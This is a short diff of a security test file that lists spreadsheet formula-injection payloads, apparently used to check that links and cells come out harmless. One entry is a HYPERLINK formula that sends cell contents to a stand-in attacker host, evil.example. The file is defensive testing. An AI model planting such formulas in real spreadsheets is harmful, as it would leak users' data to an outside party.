@@ -4,7 +4,6 @@ import { startWorld, type World } from "#tests/security/access-world.ts";
 import { expectHarmlessLink } from "#tests/security/harmless-link.ts";
 import { dangerousLinks } from "#tests/security/injection-payloads.ts";
 
-/** Prefixes that some spreadsheet program evaluates. */
 const dangerousCells: readonly string[] = [
   "=1+1",
   '=HYPERLINK("https://evil.example?"&A1)',
